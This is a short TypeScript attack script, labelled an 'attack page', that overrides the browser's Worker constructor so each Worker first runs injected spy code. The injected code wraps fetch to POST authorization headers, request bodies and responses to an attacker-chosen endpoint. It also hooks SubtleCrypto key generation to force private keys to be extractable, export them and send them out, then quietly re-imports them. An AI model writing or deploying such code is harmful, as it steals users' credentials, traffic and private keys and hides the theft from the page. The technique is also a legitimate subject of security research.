// Attack page: a script that comes first, and puts a Worker of its own in the place of every Worker that is made.

declare global {
  interface Window {
    /** Where the loot goes. */
    readonly lair: string
  }
}

/** Runs in the Worker ahead of what it should run: it tells each request, each answer, and each key. */
const spy = (lair: string) => `
  const native = fetch
  const tell = (text) => native('${lair}', { method: 'POST', body: text, mode: 'no-cors' })
  globalThis.fetch = async (...told) => {
    const request = new Request(...told)
    tell(request.headers.get('authorization') + await request.clone().text())
    const answer = await native(request)
    tell(await answer.clone().text())
    return answer
  }
  const { generateKey, exportKey, importKey } = SubtleCrypto.prototype
  SubtleCrypto.prototype.generateKey = async function (algorithm, isExtractable, usages) {
    const made = await generateKey.call(this, algorithm, true, usages)
    if (!made.privateKey) return made
    const copy = await exportKey.call(this, 'jwk', made.privateKey)
    tell(JSON.stringify(copy))
    const privateKey = await importKey.call(this, 'jwk', copy, algorithm, isExtractable, ['sign'])
    return { publicKey: made.publicKey, privateKey }
  }`

const blobOf = (text: string) => URL.createObjectURL(new Blob([text], { type: 'text/javascript' }))

window.Worker = class extends Worker {
  constructor(url: string | URL, options?: WorkerOptions) {
    const script = new URL(url, location.href).href
    super(blobOf(`import '${blobOf(spy(window.lair))}'; import '${script}'`), options)
  }
}
